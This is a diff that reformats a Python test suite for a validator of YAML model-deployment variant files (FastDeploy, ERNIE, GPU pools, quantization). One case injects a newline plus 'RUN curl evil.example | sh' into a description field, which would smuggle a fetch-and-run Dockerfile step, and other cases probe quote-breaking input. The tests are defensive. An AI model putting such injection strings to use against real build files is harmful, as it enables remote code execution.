@@ -23,7 +23,13 @@ CASES = {
     "wrong-type": (GOOD + "engine:\n  max_model_len: lots\n", ["engine.max_model_len", "'lots'"]),
     "quantization-not-in-release": (
         GOOD + "engine:\n  quantization: wint3\n",
-        ["engine.quantization", "'wint3'", "not valid for FastDeploy 2.5.0", "allowed: wint2", "did you mean"],
+        [
+            "engine.quantization",
+            "'wint3'",
+            "not valid for FastDeploy 2.5.0",
+            "allowed: wint2",
+            "did you mean",
+        ],
     ),
     "quantization-older-release": (
         GOOD + "engine:\n  fastdeploy: 2.3.0\n  quantization: mxfp4\n",
@@ -34,12 +40,15 @@ CASES = {
         ["engine.tensor_parallel_size", "hub.gpu_count (1)"],
     ),
     "model-does-not-fit": (
-        GOOD.replace("ERNIE-4.5-0.3B-Paddle", "ERNIE-4.5-300B-A47B-Paddle") + "engine:\n  quantization: wint8\n",
+        GOOD.replace("ERNIE-4.5-0.3B-Paddle", "ERNIE-4.5-300B-A47B-Paddle")
+        + "engine:\n  quantization: wint8\n",
         ["hub.gpu_ids[0]", "'AMPERE_24'", "cannot hold baidu/ERNIE-4.5-300B-A47B-Paddle at wint8"],
     ),
     "newline-in-dockerfile-value": (
-        GOOD.replace("description: A variant written by a test.",
-                     'description: "innocent\\nRUN curl evil.example | sh"'),
+        GOOD.replace(
+            "description: A variant written by a test.",
+            'description: "innocent\\nRUN curl evil.example | sh"',
+        ),
         ["description", "newlines and control characters are not allowed"],
     ),
     "newline-in-env-value": (
@@ -47,10 +56,14 @@ CASES = {
         ["engine.env.FD_ATTENTION_BACKEND", "newlines"],
     ),
     "quote-breaking-hub-json-key": (
-        GOOD + 'hub:\n  gpu_ids: [ADA_24]\n  presets:\n    - name: p\n      defaults: {\'MAX_MODEL_LEN"\': 4}\n',
-        ["hub.presets[0].defaults.MAX_MODEL_LEN\"", "did you mean 'MAX_MODEL_LEN'"],
+        GOOD
+        + "hub:\n  gpu_ids: [ADA_24]\n  presets:\n    - name: p\n      defaults: {'MAX_MODEL_LEN\"': 4}\n",
+        ['hub.presets[0].defaults.MAX_MODEL_LEN"', "did you mean 'MAX_MODEL_LEN'"],
     ),
-    "quote-in-env-name": (GOOD + "engine:\n  env:\n    'A\"B': x\n", ['engine.env.A"B', "not a valid environment"]),
+    "quote-in-env-name": (
+        GOOD + "engine:\n  env:\n    'A\"B': x\n",
+        ['engine.env.A"B', "not a valid environment"],
+    ),
     "missing-extends-target": (
         GOOD.replace("extends: _base", "extends: _bsae"),
         ["extends", "'_bsae'", "does not exist", "did you mean '_base'"],
@@ -60,8 +73,14 @@ CASES = {
     "comment-only-file": ("# nothing here\n", ["the file is empty"]),
     "missing-required": (GOOD.replace("title: Test variant\n", ""), ["title", "is required"]),
     "bad-pool": (GOOD + "hub:\n  gpu_ids: [ADA24]\n", ["hub.gpu_ids[0]", "did you mean 'ADA_24'"]),
-    "fp8-needs-hopper": (GOOD + "engine:\n  quantization: block_wise_fp8\n", ["hub.gpu_ids[0]", "needs sm90"]),
-    "cuda-not-offered": (GOOD + "engine:\n  cuda: '12.4'\n", ["engine.cuda", "'12.4'", "allowed: 12.6, 12.9"]),
+    "fp8-needs-hopper": (
+        GOOD + "engine:\n  quantization: block_wise_fp8\n",
+        ["hub.gpu_ids[0]", "needs sm90"],
+    ),
+    "cuda-not-offered": (
+        GOOD + "engine:\n  cuda: '12.4'\n",
+        ["engine.cuda", "'12.4'", "allowed: 12.6, 12.9"],
+    ),
     "unknown-release": (GOOD + "engine:\n  fastdeploy: 2.6.0\n", ["engine.fastdeploy", "'2.6.0'", "2.5.0"]),
     "extra-flag-unknown": (
         GOOD + "engine:\n  extra_args: [--enable-logprobs]\n",
@@ -75,15 +94,26 @@ CASES = {
         GOOD + "engine:\n  fastdeploy: 2.0.0\n  tool_call_parser: ernie-x1\nhub:\n  gpu_ids: [AMPERE_80]\n",
         ["engine.tool_call_parser", "FastDeploy 2.0.0 has no tool-call parser"],
     ),
-    "disk-too-small": (GOOD + "hub:\n  gpu_ids: [ADA_24]\n  container_disk_gb: 5\n",
-                       ["hub.container_disk_gb", "needs at least 31"]),
-    "unknown-setting": (GOOD + "engine:\n  settings:\n    REQUEST_TIMEOUTS: 5\n",
-                        ["engine.settings.REQUEST_TIMEOUTS", "did you mean 'REQUEST_TIMEOUT'"]),
-    "setting-wrong-type": (GOOD + "engine:\n  settings:\n    ENABLE_PREFIX_CACHING: 'yes'\n",
-                           ["engine.settings.ENABLE_PREFIX_CACHING", "true or false"]),
-    "name-differs-from-file": (GOOD.replace("name: {name}", "name: other"), ["name", "must match the file name"]),
-    "old-image-lacks-ada": (GOOD + "engine:\n  fastdeploy: 2.3.0\n",
-                            ["hub.gpu_ids[0]", "(sm86) is not covered by the FastDeploy 2.3.0 image"]),
+    "disk-too-small": (
+        GOOD + "hub:\n  gpu_ids: [ADA_24]\n  container_disk_gb: 5\n",
+        ["hub.container_disk_gb", "needs at least 31"],
+    ),
+    "unknown-setting": (
+        GOOD + "engine:\n  settings:\n    REQUEST_TIMEOUTS: 5\n",
+        ["engine.settings.REQUEST_TIMEOUTS", "did you mean 'REQUEST_TIMEOUT'"],
+    ),
+    "setting-wrong-type": (
+        GOOD + "engine:\n  settings:\n    ENABLE_PREFIX_CACHING: 'yes'\n",
+        ["engine.settings.ENABLE_PREFIX_CACHING", "true or false"],
+    ),
+    "name-differs-from-file": (
+        GOOD.replace("name: {name}", "name: other"),
+        ["name", "must match the file name"],
+    ),
+    "old-image-lacks-ada": (
+        GOOD + "engine:\n  fastdeploy: 2.3.0\n",
+        ["hub.gpu_ids[0]", "(sm86) is not covered by the FastDeploy 2.3.0 image"],
+    ),
     "duplicate-key": (GOOD + "title: again\n", ["YAML syntax error", "duplicate key 'title'"]),
 }
 
@@ -102,7 +132,9 @@ def test_invalid_variant_exits_2_naming_file_and_field(case, cli, write_variant)
 
 
 def test_all_errors_at_once(cli, write_variant):
-    text = GOOD + "engine:\n  quantizaton: wint4\n  max_num_seqs: -1\nhub:\n  gpu_ids: [ADA_24]\n  categori: x\n"
+    text = (
+        GOOD + "engine:\n  quantizaton: wint4\n  max_num_seqs: -1\nhub:\n  gpu_ids: [ADA_24]\n  categori: x\n"
+    )
     path = write_variant("many", text.replace("{name}", "many"))
     result = cli("--variant", str(path), "--render-only")
     assert result.returncode == 2
@@ -145,8 +177,10 @@ def test_variants_dir_option(cli, write_variant):
 def test_quote_in_title_is_escaped_not_broken(cli, write_variant):
     import json
 
-    path = write_variant("quoted", GOOD.replace("{name}", "quoted").replace(
-        "title: Test variant", "title: 'Say \"hi\" \\ $HOME'"))
+    path = write_variant(
+        "quoted",
+        GOOD.replace("{name}", "quoted").replace("title: Test variant", "title: 'Say \"hi\" \\ $HOME'"),
+    )
     out = path.parent.parent / "out"
     result = cli("--variant", str(path), "--render-only", "--out", str(out))
     assert result.returncode == 0, result.stderr
